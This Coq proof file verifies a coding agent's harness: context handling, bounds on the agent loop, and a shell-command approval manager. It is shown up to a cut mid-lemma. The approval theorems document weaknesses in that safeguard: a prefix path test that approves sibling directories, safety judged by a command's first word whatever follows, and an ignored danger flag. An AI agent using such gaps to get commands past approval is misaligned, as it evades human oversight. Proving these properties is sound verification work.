(** With a tokenizer that rejects [undefined], /resume aborts on such a
    snapshot. *)
Lemma resume_throws_on_empty_tool_output :
  exists cm,
    addToolResult (Some "call_1") (Some "") (newContextManager "You are an agent." "gpt-4")
    = inr cm
    /\ replay (getMessages cm) (newContextManager "You are an agent." "gpt-4")
       = inl "TypeError: Cannot read properties of undefined (reading 'length')".
Proof. eexists. split; reflexivity. Qed.

End SnapshotExamples.

(** ** Agent loop *)

Section LoopBound.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.
Context `{Env}.

Lemma keeps_ret {A} (a : A) : keeps (ret a).
Proof. now intros st. Qed.

Lemma keeps_throw {A} (e : string) : keeps (@throw AgentState A e).
Proof. now intros st. Qed.

Lemma keeps_bind {A B} (m : M AgentState A) (k : A -> M AgentState B) :
  keeps m -> (forall a, keeps (k a)) -> keeps (bind m k).
Proof.
  intros Hm Hk st. unfold bind. specialize (Hm st).
  destruct (m st) as [[e|a] st1]; simpl in *; [exact Hm|].
  destruct (Hk a st1) as [T S]. destruct Hm as [T1 S1]. split; congruence.
Qed.

Lemma keeps_gets {A} (f : AgentState -> A) : keeps (gets f).
Proof. now intros st. Qed.

Lemma keeps_liftExc {A} (x : Js.Exc A) : keeps (liftExc x).
Proof. now intros st. Qed.

Lemma keeps_yield (e : AgentEvent) : keeps (yield e).
Proof. now intros st. Qed.

Lemma keeps_inWorld {A} (m : M World A) : keeps (inWorld m).
Proof.
  intros st. unfold inWorld, zoom. now destruct (m (world st)).
Qed.

Lemma keeps_updSession (f : Session -> Session) :
  (forall s, turnCount (f s) = turnCount s /\ static (f s) = static s) ->
  keeps (updSession f).
Proof. intros Hf st. apply Hf. Qed.

Lemma keeps_onContext (f : ContextManager -> Js.Exc ContextManager) :
  keeps (onContext f).
Proof.
  unfold onContext. apply keeps_bind; [apply keeps_gets|]. intros cm.
  apply keeps_bind; [apply keeps_liftExc|]. intros cm'.
  now apply keeps_updSession.
Qed.

Lemma keeps_forEach {A} (xs : list A) (body : A -> M AgentState unit) :
  (forall x, keeps (body x)) -> keeps (forEach xs body).
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl.
  - apply keeps_ret.
  - apply keeps_bind; [apply Hb | intros _; exact IH].
Qed.

Lemma keeps_recordAction actionType details :
  keeps (updSession (fun s =>
           setLoopDetector
             (LoopDetector.recordAction actionType details (loopDetector s)) s)).
Proof. now apply keeps_updSession. Qed.

Lemma keeps_recordUsage (u : option TokenUsage) : keeps (recordUsage u).
Proof. destruct u; [apply keeps_onContext | apply keeps_ret]. Qed.

Lemma keeps_prune : keeps prune.
Proof.
  unfold prune. apply keeps_bind; [apply keeps_gets|]. intros t. apply keeps_onContext.
Qed.

Lemma keeps_compactIfNeeded : keeps compactIfNeeded.
Proof.
  unfold compactIfNeeded. apply keeps_bind; [apply keeps_gets|]. intros s.
  destruct (needsCompression _ _); [|apply keeps_ret].
  apply keeps_bind; [apply keeps_inWorld|]. intros r.
  destruct (fst r) as [summary|]; [|apply keeps_ret].
  destruct (Js.truthyStr summary); [|apply keeps_ret].
  apply keeps_bind; [apply keeps_onContext | intros _; apply keeps_recordUsage].
Qed.

Lemma keeps_onEvent (acc : Reply) (event : StreamEvent) : keeps (onEvent acc event).
Proof.
  unfold onEvent. destruct (evType event); try apply keeps_ret.
  - destruct (Js.truthy (textDelta event)); [|apply keeps_ret].
    apply keeps_bind; [apply keeps_yield | intros _; apply keeps_ret].
  - apply keeps_bind; [apply keeps_yield | intros _; apply keeps_ret].
  - destruct (toolCall event); apply keeps_ret.
Qed.

Lemma keeps_consume (evs : list StreamEvent) : forall acc, keeps (consume evs acc).
Proof.
  induction evs as [|event evs IH]; intros acc; simpl.
  - apply keeps_ret.
  - apply keeps_bind; [apply keeps_onEvent | intros acc'; apply IH].
Qed.

Lemma keeps_askModel : keeps askModel.
Proof.
  unfold askModel. apply keeps_bind; [apply keeps_gets|]. intros s.
  apply keeps_bind; [apply keeps_inWorld|]. intros stream.
  apply keeps_bind; [apply keeps_consume|]. intros reply.
  destruct (thrown stream); [apply keeps_throw | apply keeps_ret].
Qed.

Lemma keeps_dispatch (toolCall : PendingCall) : keeps (dispatch toolCall).
Proof.
  unfold dispatch. apply keeps_bind; [apply keeps_yield|]. intros _.
  apply keeps_bind; [apply keeps_recordAction|]. intros _.
  apply keeps_bind; [apply keeps_gets|]. intros s.
  apply keeps_bind; [apply keeps_inWorld|]. intros result.
  apply keeps_bind; [apply keeps_yield | intros _; apply keeps_ret].
Qed.

Lemma keeps_dispatchAll (calls : list PendingCall) : keeps (dispatchAll calls).
Proof.
  induction calls as [|c calls IH]; simpl.
  - apply keeps_ret.
  - apply keeps_bind; [apply keeps_dispatch|]. intros r.
    apply keeps_bind; [exact IH | intros rs; apply keeps_ret].
Qed.

Lemma keeps_turnBody : keeps turnBody.
Proof.
  unfold turnBody. apply keeps_bind; [apply keeps_compactIfNeeded|]. intros _.
  apply keeps_bind; [apply keeps_askModel|]. intros reply.
  apply keeps_bind; [apply keeps_onContext|]. intros _.
  apply keeps_bind.
  { destruct (Js.truthyStr (responseText reply)); [|apply keeps_ret].
    apply keeps_bind; [apply keeps_yield | intros _; apply keeps_recordAction]. }
  intros _. destruct (toolCallsAcc reply) as [|c calls].
  - apply keeps_bind; [apply keeps_recordUsage|]. intros _.
    apply keeps_bind; [apply keeps_prune | intros _; apply keeps_ret].
  - apply keeps_bind; [apply keeps_dispatchAll|]. intros toolResults.
    apply keeps_bind; [apply keeps_forEach; intros r; apply keeps_onContext|]. intros _.
    apply keeps_bind; [apply keeps_gets|]. intros s.
    apply keeps_bind.
    { destruct (LoopDetector.checkForLoop _) as [loopError|]; [|apply keeps_ret].
      destruct (Js.truthyStr loopError); [apply keeps_onContext | apply keeps_ret]. }
    intros _. apply keeps_bind; [apply keeps_recordUsage|]. intros _.
    apply keeps_bind; [apply keeps_prune | intros _; apply keeps_ret].
Qed.

(** One turn, however it ends, counts as exactly one. *)
Lemma turn_counts_one (st : AgentState) :
  turnCount (session (snd (turn st))) = turnCount (session st) + 1
  /\ static (session (snd (turn st))) = static (session st).
Proof.
  unfold turn, now, updSession. rewrite bind_gets, bind_modify.
  destruct (keeps_turnBody
              {| session := incrementTurn (clock (ext (world st))) (session st);
                 world := world st; yielded := yielded st |}) as [T S].
  rewrite T, S. now split.
Qed.

(** The loop with [remaining] iterations left runs at most that many turns;
    when it falls through, it has run all of them. *)
Lemma loop_bounded (remaining : nat) (st : AgentState) :
  turnCount (session (snd (loop remaining st)))
  <= turnCount (session st) + remaining
  /\ (fst (loop remaining st) = inr false ->
      turnCount (session (snd (loop remaining st)))
      = turnCount (session st) + remaining)
  /\ static (session (snd (loop remaining st))) = static (session st).
Proof.
  revert st. induction remaining as [|remaining IH]; intros st.
  - simpl. repeat split; lia.
  - cbn [loop]. unfold bind.
    destruct (turn_counts_one st) as [T S].
    destruct (turn st) as [[e|returned] st1]; simpl in T, S; simpl.
    + repeat split; try lia; try discriminate. exact S.
    + destruct returned; simpl.
      * repeat split; try lia; try discriminate. exact S.
      * destruct (IH st1) as (L2 & L3 & L4).
        repeat split.
        -- lia.
        -- intros E. rewrite (L3 E). lia.
        -- congruence.
Qed.

End LoopBound.

Section LoopCompletes.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.
Context `{Env}.
Variable s0 : Session.
Hypothesis model_calls_tool : alwaysCallsTool.
Hypothesis dispatch_returns : requestedCallsReturn s0.

#[local] Abbreviation P := (staticOf s0).
#[local] Abbreviation any := (fun _ => True).

Lemma c_ret {A} (a : A) (Q : A -> Prop) : Q a -> completes P (ret a) Q.
Proof. intros HQ st Hc HP. now exists a, st. Qed.

Lemma c_bind {A B} (m : M AgentState A) (k : A -> M AgentState B)
    (Q1 : A -> Prop) (Q2 : B -> Prop) :
  completes P m Q1 -> (forall a, Q1 a -> completes P (k a) Q2) ->
  completes P (bind m k) Q2.
Proof.
  intros Hm Hk st Hc HP.
  destruct (Hm st Hc HP) as (a & st1 & E1 & Hc1 & HP1 & HQ1).
  destruct (Hk a HQ1 st1 Hc1 HP1) as (b & st2 & E2 & Hc2 & HP2 & HQ2).
  exists b, st2. split; [|now repeat split].
  now rewrite (bind_returns _ _ _ _ _ E1).
Qed.

Lemma c_then {A B} (m : M AgentState A) (k : M AgentState B) (Q : B -> Prop) :
  completes P m any -> completes P k Q -> completes P (bind m (fun _ => k)) Q.
Proof. intros Hm Hk. apply (c_bind m _ any Q Hm). intros _ _. exact Hk. Qed.

Lemma c_yield (e : AgentEvent) : completes P (yield e) any.
Proof. intros st Hc HP. eexists tt, _. now repeat split. Qed.

Lemma c_updSession (f : Session -> Session) :
  (forall s, static (f s) = static s /\ contextManager (f s) = contextManager s) ->
  completes P (updSession f) any.
Proof.
  intros Hf st Hc HP. eexists tt, _. split; [reflexivity|].
  destruct (Hf (session st)) as [S C].
  unfold cached, staticOf in *. simpl. rewrite S, C. now repeat split.
Qed.

Lemma c_onContext (f : ContextManager -> Js.Exc ContextManager) :
  (forall cm, Forall (fun m => is_Some (tokenCount m)) (messages cm) ->
     exists cm', f cm = inr cm'
                 /\ Forall (fun m => is_Some (tokenCount m)) (messages cm')) ->
  completes P (onContext f) any.
Proof.
  intros Hf st Hc HP. destruct (Hf _ Hc) as (cm' & E & Hc').
  eexists tt, _. split; [apply (onContext_returns f st cm' E)|].
  now repeat split.
Qed.

Lemma c_forEach {A} (xs : list A) (body : A -> M AgentState unit) :
  (forall x, completes P (body x) any) -> completes P (forEach xs body) any.
Proof.
  intros Hb. induction xs as [|x xs IH]; simpl.
  - now apply c_ret.
  - apply c_then; [apply Hb | exact IH].
Qed.

Lemma push_cached (m : MessageItem) (cm : ContextManager) :
  is_Some (tokenCount m) ->
  Forall (fun m => is_Some (tokenCount m)) (messages cm) ->
  Forall (fun m => is_Some (tokenCount m)) (messages (push m cm)).
Proof.
  intros Hm Hc. unfold push. simpl. apply Forall_app. split; [exact Hc|].
  now constructor.
Qed.

Lemma c_addAssistantMessage content toolCalls :
  completes P (onContext (addAssistantMessage content toolCalls)) any.
Proof.
  apply c_onContext. intros cm Hc. unfold addAssistantMessage.
  destruct (countTokens_defined (Js.nullish content "") (modelName cm)) as (n & E).
  rewrite E. simpl. eexists. split; [reflexivity|].
  apply push_cached; [simpl; eauto | exact Hc].
Qed.

Lemma c_addToolResult (id text : string) :
  completes P (onContext (addToolResult (Some id) (Some text))) any.
Proof.
  apply c_onContext. intros cm Hc. unfold addToolResult.
  destruct (countTokens_defined text (modelName cm)) as (n & E).
  rewrite E. simpl. eexists. split; [reflexivity|].
  apply push_cached; [simpl; eauto | exact Hc].
Qed.

Lemma c_addUserMessage (text : string) :
  completes P (onContext (addUserMessage (Some text))) any.
Proof.
  apply c_onContext. intros cm Hc. unfold addUserMessage.
  destruct (countTokens_defined text (modelName cm)) as (n & E).
  rewrite E. simpl. eexists. split; [reflexivity|].
  apply push_cached; [simpl; eauto | exact Hc].
Qed.

Lemma c_recordUsage (u : option TokenUsage) : completes P (recordUsage u) any.
Proof.
  destruct u as [u|]; simpl; [|now apply c_ret].
  apply c_onContext. intros cm Hc. eexists. split; [reflexivity|exact Hc].
Qed.

Lemma c_prune : completes P prune any.
Proof.
  unfold prune, now. intros st Hc HP. rewrite bind_gets.
  apply c_onContext; [|exact Hc|exact HP].
  intros cm Hcm.
  destruct (pruneToolOutputs_returns (clock (ext (world st))) cm Hcm)
    as (cm' & n & E & Hc').
  rewrite E. simpl. eauto.
Qed.

Lemma c_recordAction actionType details :
  completes P
    (updSession (fun s =>
       setLoopDetector
         (LoopDetector.recordAction actionType details (loopDetector s)) s)) any.
Proof. now apply c_updSession. Qed.

Lemma c_compactIfNeeded : completes P compactIfNeeded any.
Proof.
  intros st Hc HP. unfold compactIfNeeded. rewrite bind_gets.
  destruct (needsCompression _ _); [|now exists tt, st].
  destruct (compress_returns (contextManager (session st)) (world st))
    as (r & w' & E & _ & _).
  rewrite (bind_returns _ _ _ _ _ (inWorld_run _ st _ _ E)).
  set (st1 := {| session := session st; world := w'; yielded := yielded st |}).
  assert (Hc1 : cached st1) by exact Hc.
  assert (HP1 : P st1) by exact HP.
  destruct (fst r) as [summary|]; [|now exists tt, st1].
  destruct (Js.truthyStr summary); [|now exists tt, st1].
  apply (c_then (onContext (replaceWithSummary summary)) (recordUsage (snd r)) any);
    [|apply c_recordUsage|exact Hc1|exact HP1].
  apply c_onContext. intros cm _.
  destruct (replaceWithSummary_three summary cm) as (n1 & n2 & n3 & Er).
  rewrite Er. eexists. split; [reflexivity|].
  simpl. repeat constructor; simpl; eauto.
Qed.

(** Consuming a reply never throws, touches neither the session nor the
    world, and keeps every completed tool call. *)
Lemma consume_collects (evs : list StreamEvent) :
  forall acc st,
    exists acc' st',
      consume evs acc st = (inr acc', st')
      /\ session st' = session st /\ world st' = world st
      /\ (toolCallsAcc acc <> []
          \/ (exists event call, In event evs /\ evType event = TOOL_CALL_COMPLETE
                                 /\ toolCall event = Some call) ->
          toolCallsAcc acc' <> []).
Proof.
  induction evs as [|event evs IH]; intros acc st.
  - exists acc, st. repeat split. intros [N|(event & call & [] & _)]. exact N.
  - cbn [consume].
    assert (Hstep : exists acc1 st1,
               onEvent acc event st = (inr acc1, st1)
               /\ session st1 = session st /\ world st1 = world st
               /\ (toolCallsAcc acc <> [] -> toolCallsAcc acc1 <> [])
               /\ (forall call, evType event = TOOL_CALL_COMPLETE ->
                                toolCall event = Some call -> toolCallsAcc acc1 <> [])).
    { unfold onEvent. destruct (evType event) eqn:Et.
      - destruct (Js.truthy (textDelta event)).
        + eexists _, _. split; [reflexivity|]. repeat split; try easy.
        + exists acc, st. repeat split; try easy.
      - eexists _, _. split; [reflexivity|]. repeat split; try easy.
      - eexists _, _. split; [reflexivity|]. repeat split; try easy.
      - exists acc, st. repeat split; try easy.
      - exists acc, st. repeat split; try easy.
      - destruct (toolCall event) as [tc|] eqn:Etc.
        + eexists _, _. split; [reflexivity|]. repeat split.
          * intros _. simpl. now destruct (toolCallsAcc acc).
          * intros call _ _. simpl. now destruct (toolCallsAcc acc).
        + exists acc, st. repeat split; try easy. }
    destruct Hstep as (acc1 & st1 & E1 & S1 & W1 & K1 & N1).
    destruct (IH acc1 st1) as (acc' & st' & E' & S' & W' & K').
    exists acc', st'. rewrite (bind_returns _ _ _ _ _ E1).
    split; [exact E'|]. split; [congruence|]. split; [congruence|].
    intros [N|(ev & call & [<-|Hin] & Et & Ec)]; apply K'.
    + left. now apply K1.
    + left. now apply (N1 call).
    + right. now exists ev, call.
Qed.

(** The calls collected from a reply are those of its completed tool-call
    events, so a property of all of these holds of every collected call. *)
Lemma consume_calls (Q : PendingCall -> Prop) (evs : list StreamEvent) :
  forall acc st acc' st',
    consume evs acc st = (inr acc', st') ->
    Forall Q (toolCallsAcc acc) ->
    (forall event call,
       In event evs -> evType event = TOOL_CALL_COMPLETE -> toolCall event = Some call ->
       Q {| call_id := callId call;
            pcName := Js.nullish (tcName call) "";
            pcArguments := Js.nullish (tcArguments call) ∅ |}) ->
    Forall Q (toolCallsAcc acc').
Proof.
  induction evs as [|event evs IH]; intros acc st acc' st' E Hacc Hevs.
  - injection E as <- _. exact Hacc.
  - cbn [consume] in E. unfold bind in E.
    destruct (onEvent acc event st) as [[e|acc1] st1] eqn:E1; [discriminate|].
    apply (IH acc1 st1 acc' st' E); [|intros ev call Hin; apply Hevs; now right].
    unfold onEvent in E1. destruct (evType event) eqn:Et.
    + destruct (Js.truthy (textDelta event)); injection E1 as <- _; exact Hacc.
    + injection E1 as <- _. exact Hacc.
    + injection E1 as <- _. exact Hacc.
    + injection E1 as <- _. exact Hacc.
    + injection E1 as <- _. exact Hacc.
    + destruct (toolCall event) as [tc|] eqn:Etc; injection E1 as <- _; [|exact Hacc].
      simpl. apply Forall_app. split; [exact Hacc|].
      constructor; [|constructor]. apply (Hevs event tc); [now left|exact Et|exact Etc].
Qed.

Lemma c_askModel :
  completes P askModel
    (fun reply => toolCallsAcc reply <> [] /\ Forall (returnsOn s0) (toolCallsAcc reply)).
Proof.
  intros st Hc HP. unfold askModel. rewrite bind_gets.
  pose proof (model_calls_tool (getMessages (contextManager (session st)))
                (match getSchemas (toolRegistry (session st)) with
                 | [] => None
                 | _ => Some (getSchemas (toolRegistry (session st)))
                 end) (ext (world st))) as Hm.
  pose proof (dispatch_returns (getMessages (contextManager (session st)))
                (match getSchemas (toolRegistry (session st)) with
                 | [] => None
                 | _ => Some (getSchemas (toolRegistry (session st)))
                 end) (ext (world st))) as Hd.
  cbv zeta in Hm.
  unfold inWorld, zoom. unfold bind at 1.
  destruct (chatCompletion _ _ true (ext (world st))) as [stream e'].
  simpl in Hm, Hd. destruct Hm as (Hthrown & Hcall).
  set (st1 := {| session := session st;
                 world := {| ext := e'; trace := trace (world st) |};
                 yielded := yielded st |}).
  destruct (consume_collects (events stream)
              {| responseText := ""; toolCallsAcc := []; usageAcc := None |} st1)
    as (reply & st2 & E2 & S2 & W2 & K2).
  rewrite (bind_returns _ _ _ _ _ E2), Hthrown.
  exists reply, st2. split; [reflexivity|].
  unfold cached, staticOf in *. rewrite S2. simpl.
  repeat split; try assumption.
  - apply K2. now right.
  - apply (consume_calls (returnsOn s0) _ _ _ _ _ E2); [constructor|exact Hd].
Qed.

Lemma c_dispatch (toolCall : PendingCall) :
  returnsOn s0 toolCall -> completes P (dispatch toolCall) any.
Proof.
  intros Hreturns. unfold dispatch.
  apply c_then; [apply c_yield|]. apply c_then; [apply c_recordAction|].
  intros st Hc HP. rewrite bind_gets.
  assert (Es : static (session st) = static s0) by exact HP.
  unfold static in Es. injection Es as Ec Er Eh Ea.
  destruct (Hreturns (world st)) as (r & w' & E).
  rewrite <- Ec, <- Er, <- Eh, <- Ea in E.
  rewrite (bind_returns _ _ _ _ _ (inWorld_run _ st _ _ E)).
  eexists _, _. split; [reflexivity|]. now repeat split.
Qed.

Lemma c_dispatchAll (calls : list PendingCall) :
  Forall (returnsOn s0) calls -> completes P (dispatchAll calls) any.
Proof.
  induction calls as [|c calls IH]; simpl; intros Hcalls.
  - now apply c_ret.
  - inversion Hcalls as [|? ? Hc Hrest]; subst.
    apply (c_bind _ _ any any); [now apply c_dispatch|]. intros r _.
    apply (c_bind _ _ any any); [now apply IH|]. intros rs _. now apply c_ret.
Qed.

(** Under the two assumptions a turn completes and asks for another one. *)
Lemma c_turnBody : completes P turnBody (fun returned => returned = false).
Proof.
  unfold turnBody. apply c_then; [apply c_compactIfNeeded|].
  apply (c_bind _ _ (fun reply => toolCallsAcc reply <> []
                                  /\ Forall (returnsOn s0) (toolCallsAcc reply)) _);
    [apply c_askModel|].
  intros reply [Hcalls Hreturn].
  apply c_then; [apply c_addAssistantMessage|].
  apply c_then.
  { destruct (Js.truthyStr (responseText reply)); [|now apply c_ret].
    apply c_then; [apply c_yield | apply c_recordAction]. }
  destruct (toolCallsAcc reply) as [|c calls]; [congruence|].
  apply (c_bind _ _ any _); [now apply c_dispatchAll|]. intros toolResults _.
  apply c_then; [apply c_forEach; intros [id text]; apply c_addToolResult|].
  intros st Hc HP. rewrite bind_gets.
  refine (c_then _ _ _ _ _ st Hc HP).
  { destruct (LoopDetector.checkForLoop (loopDetector (session st))) as [loopError|];
      [|now apply c_ret].
    destruct (Js.truthyStr loopError); [apply c_addUserMessage | now apply c_ret]. }
  apply c_then; [apply c_recordUsage|].
  apply c_then; [apply c_prune | now apply c_ret].
Qed.

Lemma c_turn : completes P turn (fun returned => returned = false).
Proof.
  unfold turn, now. intros st Hc HP. rewrite bind_gets.
  refine (c_then _ _ _ _ c_turnBody st Hc HP).
  now apply c_updSession.
Qed.

End LoopCompletes.

Section LoopValues.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.
Context `{Env}.
Hypothesis model_calls_tool : alwaysCallsTool.

Lemma y_ret {A} (a : A) (Q : A -> Prop) : Q a -> yields (ret a) Q.
Proof. intros HQ st b st' [= <- _]. exact HQ. Qed.

Lemma y_bind {A B} (m : M AgentState A) (k : A -> M AgentState B)
    (Q1 : A -> Prop) (Q2 : B -> Prop) :
  yields m Q1 -> (forall a, Q1 a -> yields (k a) Q2) -> yields (bind m k) Q2.
Proof.
  intros Hm Hk st b st' E. unfold bind in E.
  destruct (m st) as [[e|a] st1] eqn:E1; [discriminate|].
  exact (Hk a (Hm st a st1 E1) st1 b st' E).
Qed.

Lemma y_skip {A B} (m : M AgentState A) (k : A -> M AgentState B) (Q : B -> Prop) :
  (forall a, yields (k a) Q) -> yields (bind m k) Q.
Proof.
  intros Hk. apply (y_bind m _ (fun _ => True) Q); [easy|]. intros a _. apply Hk.
Qed.

(** Whenever the model is asked and the request returns, the reply holds a
    tool call. *)
Lemma y_askModel : yields askModel (fun reply => toolCallsAcc reply <> []).
Proof.
  intros st reply st' E. unfold askModel in E. rewrite bind_gets in E.
  pose proof (model_calls_tool (getMessages (contextManager (session st)))
                (match getSchemas (toolRegistry (session st)) with
                 | [] => None
                 | _ => Some (getSchemas (toolRegistry (session st)))
                 end) (ext (world st))) as Hm.
  cbv zeta in Hm.
  unfold inWorld, zoom in E. unfold bind at 1 in E.
  destruct (chatCompletion _ _ true (ext (world st))) as [stream e'].
  simpl in Hm. destruct Hm as (Hthrown & Hcall).
  match type of E with
  | context [consume ?evs ?acc] =>
      match type of E with
      | bind _ _ ?st1 = _ =>
          destruct (consume_collects evs acc st1) as (r & st2 & E2 & _ & _ & K2)
      end
  end.
  rewrite (bind_returns _ _ _ _ _ E2), Hthrown in E.
  injection E as <- _. apply K2. now right.
Qed.

(** Under such a model a turn that returns asks for another turn. *)
Lemma y_turn : yields turn (fun returned => returned = false).
Proof.
  unfold turn. apply y_skip. intros t. apply y_skip. intros _.
  unfold turnBody. apply y_skip. intros _.
  apply (y_bind _ _ (fun reply => toolCallsAcc reply <> []) _); [apply y_askModel|].
  intros reply Hcalls. apply y_skip. intros _. apply y_skip. intros _.
  destruct (toolCallsAcc reply) as [|c calls]; [congruence|].
  repeat (apply y_skip; intros ?). now apply y_ret.
Qed.

End LoopValues.

Section LoopCount.
Import Agent.
Context `{Env}.

(** [iterations] counts the values of the loop variable that pass the test
    [turn < maxTurns]. *)
Lemma iterations_spec (maxTurns : Q) (turn : nat) :
  turn < iterations maxTurns <-> (inject_Z (Z.of_nat turn) < maxTurns)%Q.
Proof.
  unfold iterations. split.
  - intros Hlt.
    assert (Hz : (Z.of_nat turn <= Qceiling maxTurns - 1)%Z) by lia.
    apply Qle_lt_trans with (inject_Z (Qceiling maxTurns - 1)).
    + now rewrite <- Zle_Qle.
    + apply Qceiling_lt.
  - intros Hlt.
    assert (Hz : (Z.of_nat turn < Qceiling maxTurns)%Z).
    { rewrite Zlt_Qlt. eapply Qlt_le_trans; [exact Hlt|]. apply Qle_ceiling. }
    lia.
Qed.

Lemma iterations_whole (maxTurns : Q) (n : nat) :
  (maxTurns == inject_Z (Z.of_nat n))%Q -> iterations maxTurns = n.
Proof.
  intros E. unfold iterations. rewrite E, Qceiling_Z. lia.
Qed.

Lemma showNumber_one (maxTurns : Q) : (maxTurns == 1)%Q -> showNumber maxTurns = "1".
Proof.
  intros E. unfold showNumber. rewrite (Qred_complete _ _ E). reflexivity.
Qed.

End LoopCount.

Section LoopClaims.
Import ToolBase Data Eff Hooks Approval Registry Context Agent.
Context `{Env}.


End LoopClaims.

Section LoopWitness.
Import ToolBase Data Eff Hooks Approval Registry Context Agent Examples LoopExamples.



End LoopWitness.

(** * Further properties *)

(** ** Approval decisions *)

Section ApprovalDecisions.
Import Approval.
Context {Callback : Type}.
Variable resolve : string -> string.
Variable am : ApprovalManager Callback.

(** X1: an invocation is rejected exactly when it is mutating, the policy
    is not yolo, and it carries a non-empty command that matches a dangerous
    pattern or, under policy never, matches no safe pattern.  Neither the
    affected paths nor the danger flag ever lead to a rejection. *)
Theorem rejection_comes_from_the_command (ctx : ApprovalContext) :
  checkApproval resolve am ctx = REJECTED <->
  isMutating ctx = true /\ approvalPolicy am <> YOLO /\
  exists c, ctxCommand ctx = Some c /\ Js.truthyStr c = true /\
            (isDangerousCommand c = true \/
             (approvalPolicy am = NEVER /\ isSafeCommand c = false)).
Proof.
  unfold checkApproval, commandVerdict, assessCommandSafety. split.
  - destruct (isMutating ctx); [|discriminate]. cbn [negb].
    destruct (ctxCommand ctx) as [c|].
    + destruct (Js.truthyStr c) eqn:Et.
      * destruct (approvalPolicy am) eqn:Ep; cbn [policy_eqb orb];
          destruct (isDangerousCommand c) eqn:Ed;
          try destruct (isSafeCommand c) eqn:Es;
          try discriminate;
          try (intros _; split; [reflexivity|]; split; [discriminate|];
               exists c; repeat split; auto; fail);
          destruct (existsb _ _); try discriminate;
          destruct (Js.nullish _ _); discriminate.
      * destruct (existsb _ _); [discriminate|].
        destruct (Js.nullish _ _); [|discriminate].
        destruct (policy_eqb _ _); discriminate.
    + destruct (existsb _ _); [discriminate|].
      destruct (Js.nullish _ _); [|discriminate].
      destruct (policy_eqb _ _); discriminate.
  - intros (Hm & Hp & c & Hc & Ht & Hd). rewrite Hm, Hc, Ht. cbn [negb].
    destruct (approvalPolicy am) eqn:Ep; try (now destruct Hp); cbn [policy_eqb orb];
      destruct Hd as [Hd|[Hn Hs]]; try discriminate; try (now rewrite Hd).
    rewrite Hs. now destruct (isDangerousCommand c).
Qed.

(** X2: under policy yolo nothing is rejected, and confirmation is asked in
    one case only: a mutating invocation without a (non-empty) command, one
    of whose affected paths fails the path test [escapes], that is, whose
    resolved text does not begin with the resolved working directory.  The
    test compares texts: a path in a sibling directory whose name extends
    that of the working directory (/home/user/project-old next to
    /home/user/project) passes it and is approved.  The danger flag is
    ignored. *)
Theorem yolo_asks_only_for_escaping_paths (ctx : ApprovalContext) :
  approvalPolicy am = YOLO ->
  checkApproval resolve am ctx
  = if isMutating ctx && negb (Js.truthy (ctxCommand ctx))
       && existsb (escapes resolve am) (ctxAffectedPaths ctx)
    then NEEDS_CONFIRMATION else APPROVED.
Proof.
  intros Hp. unfold checkApproval, commandVerdict, assessCommandSafety.
  rewrite Hp. cbn [policy_eqb].
  destruct (isMutating ctx); [|reflexivity]. cbn [negb andb].
  destruct (ctxCommand ctx) as [c|]; cbn [Js.truthy].
  - destruct (Js.truthyStr c); cbn [negb andb]; [reflexivity|].
    destruct (existsb _ _); [reflexivity|]. now destruct (Js.nullish _ _).
  - destruct (existsb _ _); [reflexivity|]. now destruct (Js.nullish _ _).
Qed.

End ApprovalDecisions.
Section SafeWords.
Import Approval.
Context {Callback : Type}.
Variable resolve : string -> string.
Variable am : ApprovalManager Callback.

Ltac by_pattern n :=
  exists (nth n SAFE_PATTERNS Regex.Eps); split; [simpl; tauto | reflexivity].

(** The safe patterns that consist of one word look at that word only. *)
Lemma safe_first_word (w rest : string) :
  In w ["ls"; "dir"; "pwd"; "cd"; "echo"; "cat"; "head"; "tail"; "less"; "more"; "wc";
        "find"; "locate"; "which"; "whereis"; "file"; "stat";
        "grep"; "awk"; "sed"; "cut"; "sort"; "uniq"; "tr"; "diff"; "comm";
        "date"; "cal"; "uptime"; "whoami"; "id"; "groups"; "hostname"; "uname";
        "ps"; "top"; "htop"; "pgrep"] ->
  isSafeCommand (w ++ " " ++ rest) = true.
Proof.
  intros Hw. unfold isSafeCommand. apply existsb_exists.
  repeat (destruct Hw as [<-|Hw];
          [ first [ by_pattern 0 | by_pattern 1 | by_pattern 6 | by_pattern 7
                  | by_pattern 9 ] | ]).
  destruct Hw.
Qed.

Lemma safe_is_nonempty (c : string) :
  isSafeCommand c = true -> Js.truthyStr c = true.
Proof.
  destruct c; [|reflexivity]. vm_compute. discriminate.
Qed.

(** X3: a command is judged safe by its first word.  When the first word
    is one of the single-word entries of the safe patterns and the whole
    command matches no dangerous pattern, the invocation is approved under
    every policy, never included, whatever follows the first word and
    whatever paths or danger flag the invocation carries. *)
Theorem first_word_decides_safety (ctx : ApprovalContext) (w rest : string) :
  In w ["ls"; "dir"; "pwd"; "cd"; "echo"; "cat"; "head"; "tail"; "less"; "more"; "wc";
        "find"; "locate"; "which"; "whereis"; "file"; "stat";
        "grep"; "awk"; "sed"; "cut"; "sort"; "uniq"; "tr"; "diff"; "comm";
        "date"; "cal"; "uptime"; "whoami"; "id"; "groups"; "hostname"; "uname";
        "ps"; "top"; "htop"; "pgrep"] ->
  ctxCommand ctx = Some (w ++ " " ++ rest) ->
  isDangerousCommand (w ++ " " ++ rest) = false ->
  isSafeCommand (w ++ " " ++ rest) = true
  /\ checkApproval resolve am ctx = APPROVED.
Proof.
  intros Hw Hc Hd. pose proof (safe_first_word w rest Hw) as Hs.
  split; [exact Hs|].
  unfold checkApproval, commandVerdict, assessCommandSafety.
  destruct (isMutating ctx); [|reflexivity]. cbn [negb].
  rewrite Hc, (safe_is_nonempty _ Hs), Hd, Hs.
  now destruct (approvalPolicy am).
Qed.

End SafeWords.

(** A rejection under policy never, for a command on neither list. *)
Lemma rejection_comes_from_the_command_witness :
  let am := ApprovalExamples.manager Approval.NEVER in
  let ctx := ApprovalExamples.commandAction "custom-script.sh" [] in
  Approval.isMutating ctx = true /\ Approval.approvalPolicy am <> Approval.YOLO /\
  exists c, Approval.ctxCommand ctx = Some c /\ Js.truthyStr c = true /\
            (Approval.isDangerousCommand c = true \/
             (Approval.approvalPolicy am = Approval.NEVER
              /\ Approval.isSafeCommand c = false)).
Proof.
  cbv zeta.
  apply (proj1 (rejection_comes_from_the_command ApprovalExamples.resolveHere
                  (ApprovalExamples.manager Approval.NEVER)
                  (ApprovalExamples.commandAction "custom-script.sh" []))).
  now vm_compute.
Defined.

(** Under yolo, creating a directory under /etc still asks, and creating
    one in the sibling directory /home/user/project-old does not. *)
Lemma yolo_asks_only_for_escaping_paths_witness :
